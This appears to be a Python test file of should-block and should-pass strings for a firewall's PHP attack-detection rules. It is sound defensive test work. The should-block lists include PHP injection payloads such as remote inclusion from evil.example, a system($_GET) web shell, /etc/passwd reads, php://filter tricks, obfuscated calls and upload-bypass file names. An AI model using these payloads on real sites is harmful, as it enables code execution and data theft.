"""Should-block / should-pass payloads of the ``rules/managed/attacks_php.py`` classes (see ``cases.py``)."""

from __future__ import annotations

from tests.rules.case import Case

CASES: tuple[Case, ...] = (
    Case(
        "PHPHighRiskMethods",
        (
            # include/require of a path, URL, script or data file, a variable or a call
            "require('/etc/passwd')", "include('http://evil.example/x.txt')", "require_once('shell.php')",
            "include(\"php://input\")", "require('data:text/plain,<?php phpinfo();?>')", "include($_GET['p'])",
            "require(base64_decode('Li4v'))",
            "<?php system($_GET['c']); ?>",
            "php://filter/convert.base64-encode/resource=index.php",
            "$a(1)",
            "allow_url_include=1",
            # open tags with whitespace, template-engine php blocks
            "<? php echo 'x'",
            "echo 1;[/php]",
            # built-ins with non-English names, called (comments between name and paren)
            "gzuncompress/*c*/($x)",
            "curl_init()",
            "get_defined_functions()[0]",
            "posix_getpwuid(0)",
            "sodium_crypto_box_keypair (",
            "strip_tags(foo)",
            # English-word functions only with obfuscation, empty args or a $variable
            "exec\t(ls)",
            "exec #note\n (ls)",
            "file\r\n()",
            "unpack($x)",
            # dangerous name wrapped then called
            "(system)(ls);",
            "[system][0](ls);",
            # superglobals and variable variables
            "$_COOKIE=value;",
            "${'ff'}",
            "$ {$a}",
            # variable functions through offsets and comments
            "$__[$_[1]](7)",
            "$x{0}(15)",
            "$a/*c*/()",
            "$foo->$name()",
            "Foo::$variable()",
            # php.ini directives
            "opcache.jit_buffer_size=1M",
            "x=extension=evil.so",
            "ssh2.exec://user:pw@host:22/usr/bin/id",
            'filename="shell. php.jpg"',
            '$_=("{"^"<").("{"^">");',
            "AddType application/x-httpd-php .jpg",
            "php_value auto_prepend_file /tmp/x",
            "include 'http://evil.example/shell.txt';",
            "$_=@\"$_\";$_=$_['!'=='@'];",
            # a stray "=" between a built-in and "(", probes with no argument, spaced superglobals
            "Shell_exec=(bla)",
            "ZlIb_DeCoDe=(x)",
            "date_ADD()",
            "array_keys()",
            "array_search/*x*/()",
            "date_default_timezone_get()",
            "$_S ERVER['REQUEST_URI'];",
            "$_ G E T['cmd']",
            "$_P O S T[\"x\"]",
            # a name concatenated from pieces, one parenthesised, then called
            "(sy.(st).em)(@id)",
            "('ex'.('ec'))('id')",
            "((sys).tem)('ls')",
        ),
        (
            "PHP developer wanted",
            "the system works",
            "$100 (approx)",
            "exec summary (draft)",
            "Upload your file (PDF or DOC)",
            "E-mail (optional)",
            "Send the word (in quotes) by mail (or fax)",
            "I learned Java. PHP is next on my list",
            "Edit wp-config.php. Then reload",
            "Open index.php in your editor",
            "Call `console.log(value)` then `arr.sort()`",
            "np.array_split(x, 3)",
            "user.is_active (true)",
            "Price: $ {100}",
            "Hello ${name}, you have ${count} items",
            "Section 5(a)(1) of the contract",
            "The (system) is down (again)",
            "precision: 2 decimals, engine: v8",
            "?format=json&precision=2&engine=google",
            "date.timezone is set in php.ini, not here",
            "Quicksort (in place) beats mergesort",
            "Watch it explode (literally)",
            '{"type": "com.example.Order", "extension": "pdf"}',
            "2^3 = 8 and x ^ y",
            'He said "hi" ^ "bye"',
            "php value for money",
            "include 'https://example.com' in your bio",
            "$_ = the default variable in Perl",
            # PHP array code with arguments is a developer's snippet; SQL has date_add with arguments
            "$items = array_merge($a, $b);",
            "use array_keys to list them",
            "date_add is a MySQL function",
            "(U.S.A)(2020)",
            "(Ph.D.)(2010)",
            "result = (a.b)(c)",
            "x = (obj.method)(arg)",
            "My host disabled shell_exec, so the plugin fails",
            "$_SERVER is a superglobal",
            # Node's require names a module, not a file to run
            "const express = require('express')", "const { read } = require('@npmcli/fund')",
            "const u = require('./lib/util.js')", "import x from 'y'; const z = require(\"lodash.merge\")",
            # a method defined with no parameters
            "class Stop {\n  async exec () {\n    return 1\n  }\n}", "public function file() { return $this->f; }",
        ),
    ),
    Case(
        "PHPDataStreamWrapper",
        ("data:text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", "data:application/x-httpd-php,<?php"),
        (
            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
            "metadata:text/plain export",
            "the data: text/plain is fine",
        ),
    ),
    Case(
        "ServerScriptUpload",
        ("shell.php.", "/tmp/sess_d8ew88tqmabdcokhumchy8htqm", "avatar.phtml .png"),
        (
            "https://shop.example/index.php?id=3",
            "report.pdf",
            "sess_ is a prefix",
            "Open index.php. Then edit it",
            "https://example.com/v1/sessions/sess_2abcdefGHIJKLMNOPqrstuvWXYZ/touch",
        ),
    ),
)
